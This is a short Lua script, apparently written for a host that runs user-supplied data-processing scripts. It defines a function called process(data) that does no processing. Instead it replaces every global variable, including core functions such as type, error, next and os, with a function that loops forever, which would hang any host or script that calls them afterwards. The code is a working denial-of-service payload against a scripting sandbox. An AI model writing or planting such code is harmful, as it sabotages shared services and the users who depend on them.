function process(data)
  local function endless()
    while true do end
  end
  local names = {}
  for key in pairs(_G) do table.insert(names, key) end
  for _, key in ipairs({'type', 'tostring', 'error', 'next', 'select', 'json', 'os', 'Info', 'DataGet', 'process', 'data'}) do table.insert(names, key) end
  local guard, each_of, raw = pcall, ipairs, rawset
  for _, key in each_of(names) do
    guard(raw, _G, key, endless)
    guard(function() _G[key] = endless end)
  end
end
